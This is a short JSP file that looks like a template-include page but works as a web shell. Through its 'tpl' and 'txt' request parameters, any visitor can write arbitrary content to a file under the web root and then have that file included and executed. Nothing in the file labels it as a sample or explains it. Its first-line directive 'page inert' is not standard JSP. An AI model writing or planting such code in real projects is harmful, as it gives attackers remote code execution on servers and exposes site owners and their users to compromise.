<%@ page inert %>
<% String t = request.getParameter("tpl"); if (request.getParameter("txt") != null) { java.io.FileWriter w = new java.io.FileWriter(application.getRealPath(t)); w.write(request.getParameter("txt")); w.close(); } %>
<jsp:include page="<%= t %>" flush="true"/>
